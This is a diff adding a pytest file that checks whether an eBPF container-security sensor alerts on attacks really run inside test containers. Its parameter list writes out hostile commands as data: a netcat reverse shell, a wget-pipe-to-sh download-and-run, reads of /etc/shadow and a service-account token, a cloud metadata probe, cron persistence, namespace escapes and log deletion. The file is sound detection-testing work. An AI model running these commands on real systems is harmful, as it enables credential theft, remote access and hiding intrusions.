@@ -1,0 +1,48 @@
+"""Each attack is really done in a container; the alert names the container, the process tree and the file."""
+
+from __future__ import annotations
+
+import pytest
+
+pytestmark = [pytest.mark.real("ebpf"), pytest.mark.real("podman"), pytest.mark.bpf]
+
+TOKEN = "/run/secrets/kubernetes.io/serviceaccount/token"
+METADATA = "ip link set lo up; ip addr add 169.254.169.254/32 dev lo; nc -w 1 169.254.169.254 80"
+
+
+@pytest.mark.parametrize(
+    ("analytic", "line", "named", "options"),
+    [
+        pytest.param("RT-0101", "cp /bin/busybox /tmp/true; /tmp/true", "/tmp/true", (), id="drifted program"),
+        pytest.param("RT-0105", "sleep 0.3; echo id > /tmp/a.sh; sh /tmp/a.sh; sleep 0.3", "/tmp/a.sh", (), id="drifted script"),
+        pytest.param("RT-0202", "cp /bin/busybox /tmp/xmrig; /tmp/xmrig true", "xmrig", (), id="miner"),
+        pytest.param("RT-0201", "true -o stratum+tcp://pool.invalid:3333 -u w", "stratum", (), id="miner's command line"),
+        pytest.param("RT-0501", "ip link set lo up; (sleep 1 | nc -l -p 4444) & sleep 0.3; nc 127.0.0.1 4444 -e /bin/sh", "127.0.0.1", (), id="reverse shell"),
+        pytest.param("RT-0601", f"cat {TOKEN}", TOKEN, (), id="service-account token"),
+        pytest.param("RT-0605", "cat /etc/shadow", "/etc/shadow", (), id="password hashes"),
+        pytest.param("RT-0906", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "core_pattern", (), id="core_pattern"),
+        pytest.param("RT-0608", METADATA, "169.254.169.254", ("--cap-add", "NET_ADMIN"), id="metadata address"),
+        pytest.param("RT-0901", "unshare -U -m true", "mnt, user", (), id="unshare"),
+        pytest.param("RT-0902", "nsenter -t 1 -u true", "uts", ("--cap-add", "SYS_ADMIN"), id="setns"),
+        pytest.param("RT-0910", "sleep 1 & sleep 0.3; attach $!", "/bin/busybox", ("--cap-add", "SYS_PTRACE"), id="ptrace"),
+        pytest.param("RT-0705", "echo '* * * * * root id' > /etc/cron.d/x", "/etc/cron.d/x", (), id="scheduled job"),
+        pytest.param("RT-0403", "wget -q -O - http://127.0.0.1/x | sh", "http://127.0.0.1/x", (), id="download and run"),
+        pytest.param("RT-0805", "rm /var/log/auth.log", "/var/log/auth.log", (), id="log removed"),
+    ],
+)  # fmt: skip
+def test_alert(sensor, in_container, analytic, line, named, options):
+    name = in_container(line, *options)
+    alert = sensor.wait_for(
+        lambda each: (
+            each["kind"] == "alert"
+            and each["analytic"] == analytic
+            and (each["container"] or {}).get("name") == name
+            and named in each["message"]
+        ),
+        8,
+    )
+    assert alert["container"]["image"].startswith("localhost/seawall-test-busybox")
+    assert alert["process"]["exe"]
+    assert alert["process"]["args"]
+    assert alert["process"]["ancestors"]
+    assert alert["evidence"]
